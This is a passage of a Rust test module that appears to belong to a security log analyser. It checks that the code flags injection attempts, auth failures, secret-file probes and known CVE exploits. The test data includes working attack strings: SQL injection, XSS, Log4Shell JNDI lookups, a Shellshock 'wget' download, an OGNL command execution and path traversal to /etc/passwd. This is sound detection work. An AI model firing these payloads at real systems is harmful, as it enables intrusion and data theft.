            "/x?c=powershell+-enc+SQBFAFgA",
            "/get?f=cat%20%2F%5Be%5Dtc%2Fpasswd",
            "/get?x=ls+-la+/var/www",
        ] {
            assert!(shell_command(attack).is_some(), "{attack}");
        }
        for ordinary in [
            "/search?q=opening+hours&id=2",
            "/page;jsessionid=ABC123?id=3",
            "/q?a=cats;dogs&b=one|two",
            "/products?sort=price|desc",
            "/api/v1/items?ids=1;2;3",
            "/docs/echo-server.html",
            "/q?filter={name:ls}",
            "/blog/2024/how-to-use-cat-and-ls",
            "/search?q=cat+food&page=2",
            "/search?q=ls+vs+dir",
        ] {
            assert_eq!(shell_command(ordinary), None, "{ordinary}");
        }
    }

    #[test]
    fn each_injection_class_has_its_own_syntax() {
        for sql in [
            "/item?id=1%27%20OR%20%271%27=%271",
            "/item?id=1%20UNION%20SELECT%20pass%20FROM%20users",
            "/item?id=1;waitfor%20delay%20%270:0:5%27",
            "/item?id=1%20or%201=1",
            "/item?id=admin%27--",
        ] {
            assert!(sql_syntax(sql), "{sql}");
        }
        for xss in [
            "/q?s=%3Cscript%3Ealert(1)%3C/script%3E",
            "/q?s=javascript:alert(document.cookie)",
            "/q?s=x%22%20onmouseover=%22alert(1)",
        ] {
            assert!(script_syntax(xss), "{xss}");
        }
        for command in [
            "/get?x=ls%20/etc/passwd",
            "/get?x=ls%20-l%20/etc/passwd",
            "/ping?host=127.0.0.1;id",
            "/q?a=$(sleep%205)",
        ] {
            assert!(!script_syntax(command), "{command}");
        }
        for command in [
            "/get?x=ls%20/etc/passwd",
            "/ping?host=127.0.0.1;id",
            "/q?a=x|cat%20/etc/hosts",
        ] {
            assert!(!sql_syntax(command), "{command}");
        }
    }

    #[test]
    fn auth_failures_of_many_services() {
        for line in [
            "sshd[1]: Failed password for invalid user admin from 203.0.113.9 port 4242 ssh2",
            "sshd[1]: Disconnected from authenticating user root 203.0.113.9 port 4242 [preauth]",
            "sshd[1]: Connection closed by invalid user oracle 203.0.113.9 port 50 [preauth]",
            "*66647 user \"xyz\" was not found in \"/var/www/.htpasswd\", client: 192.0.43.10",
            "*3 user \"scribendio\": password mismatch, client: 10.0.2.2, server: ,",
            "postfix/smtpd[1]: warning: unknown[198.51.100.4]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
            "dovecot: imap-login: Disconnected (auth failed, 3 attempts in 12 secs): user=<bob>, rip=198.51.100.7",
            "vsftpd: [anna] FAIL LOGIN: Client \"198.51.100.7\"",
            "logger=authn t=2024-01-01 level=info msg=\"Invalid username or password\" remote_addr=198.51.100.7",
            "Access denied for user 'root'@'198.51.100.7' (using password: YES)",
            "charon: 09[IKE] EAP-MS-CHAPv2 authentication of 'bob' failed",
            "[warn] Login failed for user alice from 198.51.100.7",
            "sshd[7]: Connection closed by 192.0.2.212 [preauth]",
            "sshd[7]: Connection reset by 192.0.2.39 port 14282 [preauth]",
            "sshd[7]: Received disconnect from 198.51.100.76 port 58846:11: Bye Bye [preauth]",
            "sshd[7]: Received disconnect from 198.51.100.34: 11: Bye Bye [preauth]",
            "sshd[7]: User root from 198.51.100.34 not allowed because not listed in AllowUsers",
            "sshd[7]: User root from 198.51.100.34 not allowed because listed in DenyUsers",
        ] {
            assert_eq!(attempt(line), Some(Attempt::AuthFailure), "{line}");
        }
    }

    #[test]
    fn denials_and_ordinary_lines() {
        for line in [
            "NOQUEUE: reject: RCPT from unknown[192.0.2.236]: 554 5.7.1 <x>: Relay access denied;",
            "NOQUEUE: reject: RCPT from foo[192.51.100.3]: 554 5.7.1 <bad.domain>: Helo command rejected",
            "[client 192.0.2.5] AH01630: client denied by server configuration: /var/www/private",
            "limiting requests, excess: 20.4 by zone \"one\", client: 192.0.2.5",
        ] {
            assert_eq!(attempt(line), Some(Attempt::Denial), "{line}");
        }
        for line in [
            "sshd[1]: Accepted publickey for deploy from 192.0.2.10 port 50000 ssh2",
            "sshd[1]: Received disconnect from 192.0.2.10 port 50000:11: disconnected by user",
            "sshd[1]: Connection closed by 192.0.2.10 port 50000",
            "postfix/smtpd[1]: connect from mail.example.com[192.0.2.20]",
            "sendmail[4306]: to=root, mailer=relay, stat=Deferred: Connection refused by [127.0.0.1]",
            "CRON[1]: pam_unix(cron:session): session opened for user root by (uid=0)",
            "GET /index.html HTTP/1.1\" 200 512",
        ] {
            assert_eq!(attempt(line), None, "{line}");
        }
    }

    #[test]
    fn known_exploits_name_their_cve() {
        let cases = [
            ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", "CVE-2017-9841"),
            ("GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F1.2.3.4%2Fa%7D HTTP/1.1", "CVE-2021-44228"),
            ("User-Agent: ${${lower:j}ndi:${lower:l}dap://x/a}", "CVE-2021-44228"),
            ("POST /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "CVE-2022-22965"),
            ("GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/", "CVE-2022-26134"),
            ("GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "CVE-2018-13379"),
            ("GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "CVE-2020-5902"),
            ("GET /vpn/../vpns/cfg/smb.conf HTTP/1.1", "CVE-2019-19781"),
            ("\"() { :; }; /bin/bash -c 'wget http://x/a'\"", "CVE-2014-6271"),
            ("GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "CVE-2021-41773"),
        ];
        for (line, cve) in cases {
            assert_eq!(exploit(line).and_then(|e| e.cve), Some(cve), "{line}");
        }
        assert_eq!(
            exploit("GET /wp-content/uploads/wso.php HTTP/1.1").map(|e| e.name),
            Some("web shell or backdoor access")
        );
        for ordinary in [
            "GET /index.php?page=about HTTP/1.1",
            "GET /static/app.js?v=${version} HTTP/1.1",
            "POST /api/login HTTP/1.1",
            "GET /shop/cart?id=42&qty=1",
        ] {
            assert_eq!(exploit(ordinary), None, "{ordinary}");
        }
    }

    #[test]
    fn probes_and_scanners() {
        assert_eq!(probe("GET", "/.env"), Some(Probe::SecretFile));
        assert_eq!(probe("GET", "/.git/config"), Some(Probe::SecretFile));
        assert_eq!(probe("GET", "/backup.sql"), Some(Probe::SecretFile));
        assert_eq!(probe("GET", "http://example.com/"), Some(Probe::OpenProxy));
        assert_eq!(probe("CONNECT", "example.com:443"), Some(Probe::OpenProxy));
        assert_eq!(probe("GET", "/phpmyadmin/"), Some(Probe::AdminInterface));
        assert_eq!(probe("GET", "/environment/overview"), None);
        assert_eq!(probe("GET", "/docs/git-config-guide"), None);
        assert_eq!(
            scanner_agent("sqlmap/1.7#stable (https://sqlmap.org)").as_deref(),
            Some("sqlmap")
        );
        assert_eq!(
            scanner_agent("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0"),
            None
        );
    }

    #[test]
    fn logins_and_services() {
        assert!(is_login_request("POST", "/wp-login.php"));
        assert!(is_login_request("POST", "/api/v1/auth?next=/"));
        assert!(is_login_request("post", "/Users/AuthenticateByName"));
        assert!(!is_login_request("GET", "/wp-login.php"));
        assert!(!is_login_request("POST", "/api/orders"));
        assert!(!is_login_request("POST", "/blog/authors"));
        assert!(is_ssh(
            "sshd[1]: Failed password for root from 1.2.3.4 port 22 ssh2"
        ));
        assert!(!is_ssh("vsftpd: FAIL LOGIN"));
        assert!(is_web_login("logger=context userId=0 msg=\"Invalid username or password\" remote_addr=1.2.3.4 grafana"));
        assert!(!is_web_login("dovecot: imap-login: auth failed"));
    }

    #[test]
    fn injection_syntax_in_requests() {
        for t in [
            "/item?id=1%27%20OR%20%271%27=%271",
            "/?q=<script>",
            "/f?p=../../etc/passwd",
            "/?c=;id",
            "/?a=1 union select 2",
            "/?x=a=b",
        ] {
            assert!(injection_syntax(t), "{t}");
        }
        for t in [
            "/search?q=opening+hours",
            "/products/117",
            "/login",
            "/search?q=gift%20card&page=2",
        ] {
            assert!(!injection_syntax(t), "{t}");
        }
    }

    #[test]
    fn ports_and_mail() {
        assert_eq!(
            destination_port("kernel: [UFW BLOCK] IN=eth0 SRC=203.0.113.9 DST=192.0.2.1 PROTO=TCP SPT=4000 DPT=3389"),
            Some(3389)
        );
        assert_eq!(
            destination_port("filterlog: block in on em0 dst=192.0.2.1:8080"),
            Some(8080)
        );
        assert_eq!(
            destination_port("Feb 24 10:28:52 pfsense filterlog[82846]: 5,,,1000000103,igb0,match,block,in,4,0x0,,171,53114,0,none,6,tcp,44,188.28.2.180,192.168.7.192,16614,1521,0,S,2920947368,,1024,,mss"),
            Some(1521)
        );
        assert_eq!(
            destination_port("5,,,1000000103,igb0,match,block,in,4,0x0,,171,53114,0,none,17,udp,44,188.28.2.180,192.168.7.192,16614,161,36"),
            Some(161)
        );
        assert_eq!(destination_port("nothing here port"), None);
        assert!(is_mail(
            "postfix/smtpd[1]: NOQUEUE: reject: RCPT from x[1.2.3.4]"
        ));
        assert!(is_mail(
            "sm-mta[17126]: s1NED81M017126: ruleset=check_rcpt, arg1=<a@b.example>, relay=x [192.0.2.9], reject=553 5.1.8"
        ));
        assert!(!is_mail("sshd[1]: Failed password for root"));
    }
}
